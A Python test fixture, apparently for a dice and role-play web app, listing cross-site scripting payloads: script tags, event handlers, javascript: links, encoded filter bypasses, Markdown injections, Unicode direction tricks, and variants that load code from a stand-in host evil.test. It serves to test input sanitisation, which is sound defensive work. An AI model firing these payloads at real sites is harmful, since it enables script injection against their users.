"""Texts that try to be more than text: script, foreign elements, forged rolls, writing that turns round."""

from __future__ import annotations

import html
import os
from itertools import product
from urllib.parse import quote

FULL = os.environ.get("TABLEE_FULL") == "1"
TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/xss.js></sCrIpT>",
    "<img id=xss src=x onerror=alert(1)>",
    "<svg id=xss onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><img id=xss onerror=alert(1) src=x>",
    "<iframe id=xss src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object id=xss data=//evil.test>",
    "<embed id=xss src=//evil.test>",
    "<form id=xss action=//evil.test><input>",
    "<button id=xss formaction=javascript:alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import'//evil.test';*{color:red}</style>",
    "<b id=xss style=position:fixed;inset:0>x</b>",
    "<details id=xss open ontoggle=alert(1)>",
    "<video id=xss><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<template id=xss><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img id=xss src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1) id=xss>",
    "<a id=xss href=javascript:alert(1)>x</a>",
    "<a id=xss href=' &#106;avascript:alert(1)'>x</a>",
    "<x id=xss onclick=alert(1) tabindex=1>x</x>",
    "<div id=xss hx-get=/t/x hx-trigger=load>",
    "<div id=xss hx-on:load=alert(1)>",
    "<hx-partial hx-target='#entries' id=xss>x</hx-partial>",
    "<p id=xss data-open='#invite'>x</p>",
    "<div class='cast yes xss'><ul class=dice><li class='die hit'>6</li></ul></div>",
    "<article class='entry thrown xss' id=e-1>x</article>",
]
BREAKS = [
    '"><img id=xss src=x onerror=alert(1)>',
    "'><svg id=xss onload=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "`-alert(1)-`",
    "{{7*7}}{% raw %}${alert(1)}#{7*7}",
    '\\"-alert(1)}//',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "\x00<scr\x00ipt>alert(1)</script>",
    "data: x\n\nevent: xss\ndata: <b id=xss>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](//evil.test/x.png)",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "[x](https://a.test 'x\" onclick=alert(1) id=xss')",
    "```html\n<img id=xss src=x onerror=alert(1)>\n```",
    "<div class=cast>**Oui, et…**</div>",
    "# x {#xss .cast onclick=alert(1)}",
]
TURNED = [
    "\u202e\u2026te ,iuO\u202c",
    "\u2067Non\u2069\u2066Oui\u2069",
    "Ana\u200b\u200d\u2060",
    "\U0001f3b2 6 6 6 Oui, et\u2026 \u2714",
    "[[+9|throw000000]]",
    "Camille\u00a0(MJ)\u200f",
    "\ufeff\u3164\u2800",
    "Z\u0489\u0360\u0353algo" + "\u0353" * 20,
]


def payloads() -> list[str]:
    """All of them; in full size each in several disguises."""
    plain = [*TAGS, *BREAKS, *MARKDOWN, *TURNED]
    if not FULL:
        return plain
    disguises = [
        lambda words: f'">{words}',
        lambda words: f"'>{words}<!--",
        lambda words: words.swapcase(),
        lambda words: html.escape(words),
        lambda words: quote(words),
        lambda words: words.replace("<", "<\t").replace("=", " =\n"),
    ]
    return [*plain, *(dress(words) for dress, words in product(disguises, plain))]
